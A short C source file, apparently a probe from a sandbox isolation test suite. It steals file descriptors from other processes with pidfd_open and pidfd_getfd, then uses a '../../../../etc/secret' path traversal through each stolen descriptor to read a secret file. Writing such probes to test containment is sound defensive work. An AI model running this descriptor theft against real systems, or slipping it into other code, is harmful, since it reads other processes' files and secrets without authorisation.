/* Takes descriptors out of other processes (pidfd_getfd(2), kcmp(2)). */
#include "common/attack.h"

static void attempt(void) {
    for (int pid = 1; pid < PIDS; pid++) {
        int process = syscall(SYS_pidfd_open, pid, 0);
        for (int fd = 0; process >= 0 && fd < 64; fd++) {
            int taken = syscall(SYS_pidfd_getfd, process, fd, 0);
            if (taken >= 0) {
                printf("descriptor %d of %d\n", fd, pid);
                int file = openat(taken, "../../../../etc/secret", O_RDONLY);
                if (file >= 0) {
                    show_fd("secret", file);
                }
                close(taken);
            }
        }
        close(process);
    }
}
